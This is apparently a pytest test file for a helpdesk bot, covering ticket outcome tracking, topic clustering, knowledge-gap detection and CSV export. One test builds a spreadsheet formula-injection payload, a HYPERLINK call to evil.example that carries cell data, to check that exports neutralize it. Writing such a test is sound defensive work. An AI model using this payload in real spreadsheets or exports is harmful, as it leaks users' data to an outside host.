"""The outcomes job against the sandbox Zendesk (real zenpy over HTTP), and topics and knowledge
gaps on real embeddings."""

from __future__ import annotations

import time

import numpy as np
import pytest

from helpdesk_bot.domain import TicketHistory, TimedMessage
from helpdesk_bot.ledger import Ledger
from helpdesk_bot.outcomes import REOPEN_WINDOW_SECONDS, assess, check_outcomes, similarity
from helpdesk_bot.topics import cluster, gaps_csv, knowledge_gaps, load_topics, refresh_topics, suggest_outline


def history(*messages, tags=(), csat=None) -> TicketHistory:
    return TicketHistory(status="open", tags=frozenset(tags), satisfaction=csat,
                         messages=tuple(TimedMessage(a, t, p, c) for a, t, p, c in messages))


ROW = {"answered_at": 1000.0, "action": "auto_send", "draft": "Open Settings, then Billing [1]."}


@pytest.mark.parametrize("messages, now, reopened", [
    ((("customer", "thanks, but it did not work", True, 2000.0),), 3000.0, True),
    ((("customer", "Can I talk to a person?", True, 2000.0),), 3000.0, True),
    ((("customer", "Great, and how do I export the invoices as CSV?", True, 2000.0),), 3000.0, None),  # a next question
    ((("customer", "Thanks, that worked!", True, 2000.0),), 1000.0 + REOPEN_WINDOW_SECONDS + 1, False),
    ((("customer", "q", True, 900.0),), 1000.0 + REOPEN_WINDOW_SECONDS + 1, False),  # before the answer
    ((("customer", "late", True, 1000.0 + REOPEN_WINDOW_SECONDS + 5),), 1000.0 + REOPEN_WINDOW_SECONDS + 10, False),
    ((("customer", "private?", False, 2000.0),), 3000.0, None),  # not public: not a reply
    ((), 3000.0, None),  # window still open: not known yet
])
def test_reopen_within_72_hours(messages, now, reopened):
    values, _ = assess(ROW, history(("bot", "reply", True, 1001.0), *messages), now)
    assert values.get("reopened") == reopened
    assert values["final"] == (now >= 1000.0 + REOPEN_WINDOW_SECONDS)


def test_agent_reply_after_an_escalation_is_compared_with_the_draft():
    row = {**ROW, "action": "escalate"}
    values, _ = assess(row, history(("bot", "note", False, 1001.0), ("agent", "Open Settings, then Billing.", True, 1500.0)),
                       2000.0)
    assert values["agent_reply"] == "Open Settings, then Billing."
    assert values["draft_similarity"] == 1.0


def test_feedback_tags_and_csat():
    values, verdicts = assess(ROW, history(tags=("ai_draft_bad",), csat="good"), 2000.0)
    assert verdicts == [("bad", "tagged ai_draft_bad")] and values["csat"] == "good"


@pytest.mark.parametrize("draft, reply, expected", [
    ("Open Settings [1] and click Billing.", "open settings and click billing", 1.0),
    ("a b c d", "a b x y", 0.5),
    ("anything", "", 0.0),
])
def test_similarity(draft, reply, expected):
    assert similarity(draft, reply) == expected


def test_outcomes_job_reads_the_sandbox_through_zenpy(tmp_path, stack):
    """Reopen, tag feedback, CSAT and an agent's reply, as the real Zendesk client sees them."""
    from helpdesk_bot.services import make_helpdesk

    sent = stack.sandbox.create_ticket("Download invoices", "Where can I download our invoices as PDF?",
                                       "ap2@example.com", "Alex", tags=["billing"])
    # A VIP ticket is always a person's: handed over with the draft the agent's reply is compared with.
    handed = stack.sandbox.create_ticket("On-premise install", "Where is our workspace data stored? We want it on "
                                         "our own servers.", "it2@example.com", "Sam", tags=["sales", "vip"])
    stack.processed(sent)
    stack.processed(handed)
    assert stack.ledger.decisions_for(str(sent))[0]["action"] == "auto_send"
    assert stack.ledger.decisions_for(str(handed))[0]["action"] == "escalate"
    time.sleep(1.1)  # Zendesk timestamps have whole seconds: the customer's reply comes after the bot's
    stack.sandbox.add_customer_reply(sent, "That link does not work for me")
    stack.sandbox.rate_ticket(sent, "bad", "not helpful")
    stack.sandbox.add_tags(handed, ["ai_draft_good"])
    stack.sandbox.add_agent_reply(handed, "Orbitask is cloud-only; there is no on-premise version.")

    helpdesk = make_helpdesk(stack.settings)
    counts = check_outcomes(stack.ledger, {helpdesk.name: helpdesk})
    assert counts["checked"] >= 2
    first = stack.ledger.outcome("zendesk", str(sent))
    assert (first["reopened"], first["csat"], first["csat_comment"]) == (True, "bad", "not helpful")
    second = stack.ledger.outcome("zendesk", str(handed))
    assert second["agent_reply"] == "Orbitask is cloud-only; there is no on-premise version."
    assert 0 <= second["draft_similarity"] <= 1
    assert [(f["rating"], f["source"]) for f in stack.ledger.feedback_for("zendesk", str(handed))] == [("good", "tag")]
    check_outcomes(stack.ledger, {helpdesk.name: helpdesk})  # again: nothing doubles
    assert len(stack.ledger.feedback_for("zendesk", str(handed))) == 1


# --- topics and knowledge gaps ----------------------------------------------------------------------


def test_cluster_groups_close_vectors():
    a, b = np.array([1.0, 0.0, 0.0]), np.array([0.0, 1.0, 0.0])
    near_a = np.array([0.95, 0.31, 0.0]) / np.linalg.norm([0.95, 0.31, 0.0])
    assert cluster(np.vstack([a, b, near_a, b]), 0.8) == [[0, 2], [1, 3]]
    assert cluster(np.vstack([a, b]), 0.0) == [[0, 1]] or cluster(np.vstack([a, b]), 0.0) == [[0], [1]]


def test_outline_keeps_the_points_agents_repeat_and_drops_greetings():
    answers = ["Hi Sam! Orbitask is cloud-only, there is no on-premise version. Thanks, Riley",
               "Hello, Orbitask runs only in our cloud; no self-hosted version exists. EU hosting is on Enterprise."]
    outline = suggest_outline(answers, ["Can we self-host?"])
    assert outline[0].startswith("Orbitask is cloud-only")
    assert not any(line.startswith(("Hi", "Hello", "Thanks")) for line in outline)


def test_topics_and_a_knowledge_gap_from_the_ledger(tmp_path, embedder):
    from tests.test_analytics import seed

    ledger = Ledger(f"sqlite:///{tmp_path}/l.db")
    ledger.migrate()
    questions = {
        "A1": ("Self-hosted version?\nCan we run Orbitask on our own servers on-premise?", "escalate", "declined"),
        "A2": ("On-premise install\nIs there an on-premise edition we can host ourselves?", "escalate", "declined"),
        "A3": ("Self-hosting\nDo you offer a self-hosted version for our data center?", "escalate", "declined"),
        "B1": ("Invoice VAT\nHow do I add our VAT number to invoices?", "auto_send", ""),
        "B2": ("VAT on invoices\nWhere do I put the company VAT ID on the invoice?", "auto_send", ""),
    }
    base = time.time() - 3600
    for n, (ticket_id, (question, action, code)) in enumerate(questions.items()):
        event_id = seed(ledger, ticket_id, base + n, action, code, action == "auto_send", ["x"], 50, 100, 0.0,
                        None, False, None, None)
        import sqlalchemy as sa

        with ledger.engine.begin() as db:
            db.execute(sa.text("UPDATE decisions SET question = :q WHERE event_id = :e"), {"q": question, "e": event_id})
    ledger.update_outcome("zendesk", "A1", agent_reply="Orbitask is cloud-only: there is no on-premise or self-hosted version.")

    assert refresh_topics(ledger, embedder) >= 2
    topic_list = load_topics(ledger)
    members = [sorted(t.ticket_id for t in topic.tickets) for topic in topic_list]
    assert ["A1", "A2", "A3"] in members and ["B1", "B2"] in members
    [gap] = knowledge_gaps(ledger, topic_list)
    assert sorted(t.ticket_id for t in gap.topic.gap_tickets) == ["A1", "A2", "A3"]
    assert gap.outline == ["Orbitask is cloud-only: there is no on-premise or self-hosted version."]
    assert gap.article is None
    csv_text = gaps_csv([gap])
    assert csv_text.splitlines()[0].startswith("topic,tickets,gap_tickets,suggested_title")
    assert "cloud-only" in csv_text

    # An article on the topic is indexed; the next such question is answered: before and after.
    from helpdesk_bot.knowledge import Article

    time.sleep(0.01)
    ledger.record_indexed_articles([Article(id="900", title="Is there an on-premise or self-hosted version?",
                                            body_html="<p>No.</p>")])
    seed(ledger, "A4", time.time(), "auto_send", "", True, ["x"], 90, 100, 0.0, None, False, None, None)
    with ledger.engine.begin() as db:
        db.execute(sa.text("UPDATE decisions SET question = :q, sources = :s WHERE ticket_id = 'A4'"),
                   {"q": "Self-hosted?\nCan we host Orbitask on-premise ourselves?", "s": '[{"id": "900#0"}]'})
    refresh_topics(ledger, embedder)
    [gap] = knowledge_gaps(ledger, load_topics(ledger))
    assert gap.article["article_id"] == "900"
    assert (gap.tickets_before, gap.deflection_before, gap.tickets_after, gap.deflection_after) == (3, 0.0, 1, 1.0)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_export_cells_a_spreadsheet_would_run_as_a_formula_are_kept_as_text(start):
    import csv
    import io

    from helpdesk_bot.topics import KnowledgeGap, Topic

    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    gap = KnowledgeGap(topic=Topic(id=1, label=hostile, keywords=[]), examples=[hostile], agent_answers=[hostile],
                       title=hostile, outline=["Open Settings, then Billing."])
    header, row = list(csv.reader(io.StringIO(gaps_csv([gap]))))
    cells = dict(zip(header, row))
    for column in ("topic", "suggested_title", "example_questions", "agent_answers"):
        assert cells[column] == "'" + hostile, column
    assert cells["outline"] == "• Open Settings, then Billing."
    assert cells["tickets"] == "0"


def test_topic_keywords_are_whole_words_not_stems():
    from helpdesk_bot.topics import distinctive_terms

    groups = [["Two-factor authentication fails for our company", "Authentication codes for companies",
               "Company-wide authentication with Okta"],
              ["Download invoices as PDF", "Where are my invoices?"]]
    authentication, invoices = distinctive_terms(groups)
    assert "authentication" in authentication and "company" in authentication
    assert not {"authent", "compani"} & set(authentication)
    assert "invoices" in invoices


@pytest.mark.parametrize("text, limit, cut", [
    ("Where can I download all of our invoices as PDF files", 30, "Where can I download all of…"),
    ("Short question", 30, "Short question"),
    ("Supercalifragilisticexpialidocious", 10, "Supercali…"),  # one long word: cut inside it
    ("Export, then import", 9, "Export…"),  # no dangling comma
])
def test_text_is_cut_at_a_word_boundary_with_an_ellipsis(text, limit, cut):
    from helpdesk_bot.text import shorten

    assert shorten(text, limit) == cut and len(shorten(text, limit)) <= limit
